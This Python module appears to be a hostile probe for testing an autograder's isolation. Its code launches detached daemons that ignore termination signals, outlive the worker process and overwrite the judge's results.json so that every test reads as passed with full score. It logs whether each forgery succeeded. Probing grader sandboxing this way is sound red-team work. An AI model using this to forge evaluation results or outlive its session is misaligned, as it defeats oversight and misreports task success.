
"""Two daemons that outlive the worker (see NOTE.md)."""
import json
import os
import signal
import time

from . import _hostile_probe as _probe

LIFETIME = 300  # s: outlives any grade of this part; bounded so that a failed cleanup heals itself


def _detach():
    """Double fork + setsid; returns True in the daemon, False in the caller."""
    pid = os.fork()
    if pid > 0:
        os.waitpid(pid, 0)
        return False
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGPIPE"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    return True


def _forge(outs, deadline):
    """Rewrite the judge's results.json as soon as it appears; stop 5 s after the first forgery."""
    seen = {}
    while time.time() < deadline:
        for out in outs:
            path = os.path.join(out, "results.json")
            try:
                stamp = os.stat(path).st_mtime_ns
            except OSError:
                continue
            if seen.get(path) == stamp:
                continue
            try:
                with open(path) as f:
                    data = json.load(f)
                total = sum(float(t.get("max_score", 0) or 0) for t in data.get("tests", [])) or 100.0
                data["score"] = total
                for test in data.get("tests", []):
                    if "max_score" in test:
                        test["score"] = test["max_score"]
                    test["status"] = "passed"
                with open(path, "w") as f:
                    json.dump(data, f)
                seen[path] = os.stat(path).st_mtime_ns
                _probe.record("forged-after-judge", path=path)
                deadline = min(deadline, time.time() + 5)
            except (OSError, ValueError) as error:
                seen[path] = stamp
                _probe.record("forge-refused", path=path, error=str(error)[:200])
        time.sleep(0.05)


def launch():
    outs = _probe.output_dirs()
    if _detach():
        try:
            for fd in range(0, 256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            _probe.record("daemon", role="forger", outs=";".join(outs))
            _forge(outs, time.time() + LIFETIME)
        finally:
            os._exit(0)
    if _detach():
        try:
            _probe.record("daemon", role="holder")
            time.sleep(LIFETIME)
        finally:
            os._exit(0)
